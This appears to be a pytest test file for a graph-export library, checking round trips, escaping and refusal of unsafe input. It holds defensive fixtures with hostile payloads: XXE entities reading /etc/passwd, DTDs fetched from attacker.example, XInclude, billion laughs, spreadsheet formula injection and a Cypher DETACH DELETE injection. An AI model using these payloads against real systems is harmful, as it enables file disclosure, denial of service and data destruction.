"""graph.json / GraphML / GEXF / CSV / Cypher: round trips, safety and escaping."""

from __future__ import annotations

import csv
import importlib.util
import json
import re
from pathlib import Path
from xml.etree import ElementTree

import networkx as nx
import pytest
from geokg.graph import (
    build_graph,
    export_graph,
    read_graph,
    to_scalar_attrs,
    write_csv,
    write_cypher,
    write_gexf,
    write_graphml,
    write_json,
)

from geokg.errors import GraphFormatError, InputError

_spec = importlib.util.spec_from_file_location("graph_records", Path(__file__).with_name("_records.py"))
R = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(R)

SYR, RUS, GEO, ISR = "country:SYR", "country:RUS", "country:GEO", "country:ISR"
NASTY = "Bell\x07 \x00ring\x1b [\ufffe] \"quoted\" 'single' <b>&amp;</b> \\back"


def _graph():
    recs = [
        R.record(
            "d1",
            [
                R.relation(SYR, "arms_buyer_of", RUS, "Damascus buys Russian jets.", modality="reported"),
                R.relation(ISR, "met_with", GEO, NASTY),
            ],
            date="2008-08-20",
        ),
        R.record(
            "d2",
            [
                R.relation(RUS, "met_with", SYR, "Medvedev met Assad.", start=40),
                R.relation(
                    "person:vladimir-putin",
                    "met_with",
                    "person:bashar-al-assad",
                    "Putin did not meet Assad.",
                    modality="negated",
                ),
            ],
        ),
    ]
    return build_graph(recs)


def test_write_json_round_trip_is_lossless(tmp_path):
    G = _graph()
    H = read_graph(write_json(G, tmp_path / "graph.json"))
    assert isinstance(H, nx.MultiDiGraph)
    assert dict(H.nodes(data=True)) == dict(G.nodes(data=True))
    assert sorted(H.edges(keys=True, data=True)) == sorted(G.edges(keys=True, data=True))
    assert H.graph == G.graph
    data = json.loads((tmp_path / "graph.json").read_text())
    assert {"nodes", "edges", "directed", "multigraph"} <= set(data) and data["edges"][0]["key"]


def test_write_graphml_reads_back_with_networkx_despite_control_characters(tmp_path):
    G = _graph()
    G.nodes[GEO]["name"] = NASTY
    path = write_graphml(G, tmp_path / "g.graphml")
    ElementTree.parse(path)  # well-formed XML for any strict reader (Gephi, yEd, Cytoscape)
    H = nx.read_graphml(path, force_multigraph=True)
    syr = H.nodes[SYR]
    assert json.loads(syr["aliases"]) == ["Damascus", "Syrian"]
    assert syr["label"] == "Syria"
    edge = next(d for u, v, d in H.edges(data=True) if {u, v} == {GEO, ISR})
    evidence = json.loads(edge["evidence"])
    # JSON escapes C0 controls (\u0007), so they survive; U+FFFE cannot be carried by XML and is dropped.
    assert evidence[0]["text"] == NASTY.replace("\ufffe", "")
    assert H.nodes[GEO]["name"] == "Bell ring [] \"quoted\" 'single' <b>&amp;</b> \\back"
    assert "iso3" not in H.nodes["person:vladimir-putin"]  # None is dropped, not written as "None"


def test_read_graph_decodes_graphml_back_to_the_graph(tmp_path):
    G = _graph()
    H = read_graph(write_graphml(G, tmp_path / "g.graphml"))
    assert dict(H.nodes(data=True))[SYR] == G.nodes[SYR]
    assert H.edges[SYR, RUS, "arms_buyer_of"] == G.edges[SYR, RUS, "arms_buyer_of"]
    assert H.edges[RUS, SYR, "met_with"]["modalities"] == {"asserted": 1}
    assert set(H.edges(keys=True)) == set(G.edges(keys=True))


def test_to_scalar_attrs_makes_only_scalars():
    out = to_scalar_attrs({"a": [1, {"b": None}], "n": None, "s": "x\x01y", "f": float("nan"), "ok": True})
    assert out == {"a": '[1, {"b": null}]', "s": "xy", "ok": True}


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph edgedefault="directed">
<node id="&lol3;"/></graph></graphml>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE graphml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph edgedefault="directed">
<node id="&xxe;"/></graph></graphml>"""


EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE graphml SYSTEM "http://attacker.example/evil.dtd">
<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph edgedefault="directed"><node id="a"/></graph></graphml>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE graphml [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph edgedefault="directed"><node id="a"/></graph></graphml>"""

XINCLUDE = """<?xml version="1.0"?>
<graphml xmlns="http://graphml.graphdrawing.org/xmlns" xmlns:xi="http://www.w3.org/2001/XInclude">
<key id="d0" for="node" attr.name="name" attr.type="string"/>
<graph edgedefault="directed"><node id="a"><data key="d0"><xi:include href="file:///etc/passwd" parse="text"/></data>
</node></graph></graphml>"""


@pytest.mark.parametrize(
    ("payload", "reason"),
    [
        (BILLION_LAUGHS, "entity declarations .*billion laughs"),
        (EXTERNAL_ENTITY, "an external entity"),
        (EXTERNAL_DTD, r"a DTD \(<!DOCTYPE"),
        (PARAMETER_ENTITY, "an external entity"),
        (XINCLUDE, "XInclude"),
    ],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "xinclude"],
)
def test_read_graph_refuses_unsafe_graphml(tmp_path, payload, reason):
    path = tmp_path / "evil.graphml"
    path.write_text(payload)
    with pytest.raises(GraphFormatError, match=r"evil\.graphml: unsafe GraphML refused.*" + reason) as info:
        read_graph(path)
    assert "root:" not in str(info.value)  # nothing of /etc/passwd was read into the message
    assert "\n" not in str(info.value)


def test_read_graph_refuses_unsafe_graphml_whatever_the_file_is_called(tmp_path):
    path = tmp_path / "graph.json"
    path.write_text(BILLION_LAUGHS)
    with pytest.raises(GraphFormatError, match="unsafe GraphML refused"):
        read_graph(path)


NAN_REFUSED = r"refusing to write .*(NaN or Infinity at 'score'|\.score: Input should be a finite number)"


def test_write_refuses_nan_and_infinity_in_every_format(tmp_path):
    G = _graph()
    G.edges[SYR, RUS, "arms_buyer_of"]["score"] = float("nan")
    for fmt in ("json", "graphml", "gexf", "csv", "cypher"):
        with pytest.raises(GraphFormatError, match=NAN_REFUSED):
            export_graph(G, fmt, tmp_path / f"g.{fmt}")
    assert not list(tmp_path.iterdir())


def test_write_json_refuses_a_graph_its_reader_would_refuse(tmp_path):
    G = _graph()
    G.nodes[SYR]["aliases"] = 5
    with pytest.raises(GraphFormatError, match=r"refusing to write .*nodes\[\d+\] \(country:SYR\)\.aliases"):
        write_json(G, tmp_path / "g.json")
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("a.json", "{not json", "got invalid JSON"),
        ("b.json", "[1, 2]", "not node-link graph data"),
        ("deep.json", "[" * 100000 + "]" * 100000, "nested too deeply"),
        ("g.json", '{"nodes": [{"id": {"a": 1}}], "edges": []}', r"nodes\[0\]\.id: Input should be a valid string"),
        ("c.json", '{"nodes": [{"name": "x"}], "edges": []}', r"nodes\[0\]\.id: Field required"),
        ("d.json", '{"nodes": [], "edges": [{"source": "a"}]}', r"edges\[0\].*\.target: Field required"),
        ("e.graphml", "<graphml><graph>", "not well-formed"),
        ("f.graphml", "<notgraphml/>", "root is <notgraphml>"),
    ],
)
def test_read_graph_malformed_files_raise_graph_format_error(tmp_path, name, content, message):
    path = tmp_path / name
    path.write_text(content)
    with pytest.raises(GraphFormatError, match=re.escape(name) + ".*(" + message + ")"):
        read_graph(path)


def test_read_graph_missing_file_is_an_input_error(tmp_path):
    with pytest.raises(InputError, match="nope.json"):
        read_graph(tmp_path / "nope.json")


def test_write_csv_writes_nodes_and_edges_and_guards_formulas(tmp_path):
    rel = R.relation(SYR, "supports", RUS, '=HYPERLINK("http://evil")', start=3)
    G = build_graph(
        [R.record("d1", [rel], entities=[R.entity(SYR, name="@SUM(A1)", aliases=["+1", "-x"]), R.entity(RUS)])]
    )
    nodes_path, edges_path = write_csv(G, tmp_path / "csv")
    nodes = {r["id"]: r for r in csv.DictReader(nodes_path.read_text(encoding="utf-8").splitlines())}
    assert nodes[SYR]["name"] == "'@SUM(A1)"
    assert nodes[SYR]["aliases"].startswith("'")
    (edge,) = csv.DictReader(edges_path.read_text(encoding="utf-8").splitlines())
    assert edge["first_evidence"] == '\'=HYPERLINK("http://evil")'
    assert (edge["relation"], edge["evidence_count"], edge["first_doc_id"]) == ("supports", "1", "d1")
    assert float(edge["score"]) > 0  # numbers are not mangled


def test_write_csv_refuses_an_existing_file(tmp_path):
    (tmp_path / "x").write_text("")
    with pytest.raises(InputError, match="directory"):
        write_csv(_graph(), tmp_path / "x")


def _unescape_cypher(literal: str) -> str:
    assert literal[0] == literal[-1] == "'"
    body = literal[1:-1]
    assert not re.search(r"(?<!\\)(\\\\)*'", body), "unescaped quote inside literal"
    simple = {"n": "\n", "r": "\r", "t": "\t", "'": "'", '"': '"', "\\": "\\"}
    return re.sub(
        r"\\(u[0-9a-f]{4}|.)",
        lambda m: chr(int(m.group(1)[1:], 16)) if len(m.group(1)) == 5 else simple[m.group(1)],
        body,
    )


def test_write_cypher_escapes_every_string(tmp_path):
    name = 'O\'Brien \\ "Bob"\n}) DETACH DELETE n //\x01'
    G = build_graph(
        [
            R.record(
                "d1",
                [R.relation("person:o-brien", "spokesperson_of", RUS, name)],
                entities=[R.entity("person:o-brien", name=name, aliases=[]), R.entity(RUS)],
            )
        ]
    )
    text = write_cypher(G, tmp_path / "g.cypher").read_text()
    lines = text.splitlines()
    assert all(line.endswith(";") or line.startswith("//") for line in lines)
    literals = re.findall(r"'(?:[^'\\]|\\.)*'", text)
    assert name in {_unescape_cypher(x) for x in literals}
    assert "\x01" not in text and "\n}) DETACH" not in text
    assert any("MERGE (a)-[r:`SPOKESPERSON_OF`]->(b)" in line for line in lines)
    assert "SET n:`Person`" in text


def test_write_gexf_opens_with_networkx(tmp_path):
    H = nx.read_gexf(write_gexf(_graph(), tmp_path / "g.gexf"))
    assert H.number_of_edges() == 4
    assert H.nodes[SYR]["label"] == "Syria"


@pytest.mark.parametrize("fmt", ["graphml", "gexf", "json", "cypher", "csv"])
def test_export_graph_dispatches_on_format(tmp_path, fmt):
    out = export_graph(_graph(), fmt, tmp_path / f"out.{fmt}")
    paths = out if isinstance(out, list) else [out]
    assert all(p.exists() and p.stat().st_size > 0 for p in paths)
    assert not list(tmp_path.rglob("*.tmp"))


def test_export_graph_unknown_format_names_the_choices(tmp_path):
    with pytest.raises(ValueError, match="graphml, gexf, json, csv, cypher"):
        export_graph(_graph(), "dot", tmp_path / "x")


def test_write_json_keeps_sets_and_tuples_as_lists(tmp_path):
    G = _graph()
    G.nodes[SYR]["tags"] = {"b", "a"}
    G.graph["span"] = (1, 2)
    H = read_graph(write_json(G, tmp_path / "g.json"))
    assert H.nodes[SYR]["tags"] == ["a", "b"] and H.graph["span"] == [1, 2]


def test_write_graphml_edge_ids_are_unique(tmp_path):
    G = _graph()
    G.add_edge(SYR, GEO, key="met_with", relation="met_with", symmetric=True, claimed=True, weight=0)
    root = ElementTree.parse(write_graphml(G, tmp_path / "g.graphml")).getroot()
    ids = [e.get("id") for e in root.iter("{http://graphml.graphdrawing.org/xmlns}edge")]
    assert len(ids) == G.number_of_edges() == len(set(ids))
    assert set(read_graph(tmp_path / "g.graphml").edges(keys=True)) == set(G.edges(keys=True))


def test_graphml_keeps_carriage_returns(tmp_path):
    # found by the property tests: XML parsers turn a raw CR into LF; geokg writes it as &#13;
    G = nx.MultiDiGraph()
    G.add_node(SYR, name="Line\r\nbreak\rhere", aliases=["a\rb"])
    H = read_graph(write_graphml(G, tmp_path / "g.graphml"))
    assert H.nodes[SYR]["name"] == "Line\r\nbreak\rhere"
    assert nx.read_graphml(tmp_path / "g.graphml").nodes[SYR]["name"] == "Line\r\nbreak\rhere"
